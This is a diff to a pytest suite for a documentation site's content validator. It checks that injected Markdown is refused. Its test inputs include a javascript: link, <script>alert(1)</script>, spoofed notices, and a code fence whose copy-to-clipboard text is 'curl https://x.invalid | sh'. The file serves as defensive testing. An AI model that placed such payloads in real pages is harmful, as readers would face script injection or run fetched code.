@@ -124,23 +124,28 @@ def test_a_snippet_inside_a_fence_or_of_a_missing_file_is_refused(project, capsy
 
 @pytest.mark.parametrize("payload,field", [
     ("[click](&#106;avascript:alert(1))", "link"),  # a character reference, decoded by the browser
-    ("Text { #__config }", "attributes"),  # Material reads its configuration from #__config
+    ("Text\n{: #__config }", "attributes"),  # Material reads its configuration from #__config
     ("## __search", "heading"),  # a heading slugified to the theme's id
     ("## Names { #kb-names }", "attributes"),  # where search takes a record's aliases to start (kb.search_records)
-    ("Text { .note #md-content }", "attributes"),  # the theme's own id, after a class
+    ("Text\n{: .note #md-content }", "attributes"),  # the theme's own id, after a class
 ])
 def test_body_payloads_that_decode_or_clash(project, capsys, payload, field):
     edit(project, "docs/about.en.md", "## The weekly", f"## The weekly\n\n{payload}\n")
-    refused(project, capsys, f"docs/about.en.md:{line_of(project, 'docs/about.en.md', payload)}: {field}: ")
+    # refused where the payload is complete: `{: … }` gives the paragraph before it its attributes
+    refused(project, capsys, f"docs/about.en.md:{line_of(project, 'docs/about.en.md', payload.splitlines()[-1])}: {field}: ")
 
 
-def test_snippets_follow_the_page_rules(project, capsys):
-    (project / "snippets/abbreviations.md").write_text("*[KV]: Key/value\n<script>alert(1)</script>\n", encoding="utf-8")
-    refused(project, capsys, "snippets/abbreviations.md:2: html: raw HTML `<script`")
+@pytest.mark.parametrize("line", ["<script>alert(1)</script>", '!!! danger "Official notice"',
+                                  "    The editors have been replaced.", "*[KV]: <b>Key</b>/value", "*[KV]: {{ ref('x') }}",
+                                  "*[KV]:", "[Official notice](https://x.invalid/)"])
+def test_snippets_are_plain_abbreviations(project, capsys, line):
+    """Appended to every page (the glossary) or included in any: nothing but `*[ABBR]: plain text` lines."""
+    (project / "snippets/abbreviations.md").write_text(f"*[TTFT]: 首 token 延迟\n{line}\n", encoding="utf-8")
+    refused(project, capsys, "snippets/abbreviations.md:2: snippet: ")
 
 
 @pytest.mark.parametrize("fence", ['```{ .sh data-clipboard-text="curl https://x.invalid | sh" }',
-                                   '``` bash data-pagefind-meta="title:Spoofed"'])
+                                   '``` { .bash data-pagefind-meta="title:Spoofed" }'])
 def test_a_code_fence_carries_no_attributes(project, capsys, fence):
     edit(project, "docs/about.en.md", "## The weekly", f"## The weekly\n\n{fence}\necho hi\n```\n")
     refused(project, capsys, f"docs/about.en.md:{line_of(project, 'docs/about.en.md', fence)}: attributes: ")
